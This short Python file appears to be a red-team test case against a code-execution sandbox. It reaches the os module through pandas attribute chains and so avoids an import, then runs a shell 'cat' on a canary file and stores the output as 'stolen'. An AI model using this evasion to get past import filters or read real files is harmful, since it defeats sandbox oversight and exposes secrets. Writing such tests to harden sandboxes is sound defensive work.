# technique: library attribute chains to dangerous modules without importing them: pandas.compat.os and pandas.io.common.os -> popen("cat <canary>")
# goal: exec
# redteam: E34
import pandas as pd

module_os = pd.compat.os if hasattr(pd.compat, "os") else pd.io.common.os
stolen = module_os.popen("cat {{CANARY_FILE}}").read()
if not stolen:
    raise RuntimeError("the command printed nothing")
df = pd.DataFrame({"stolen": [stolen]})
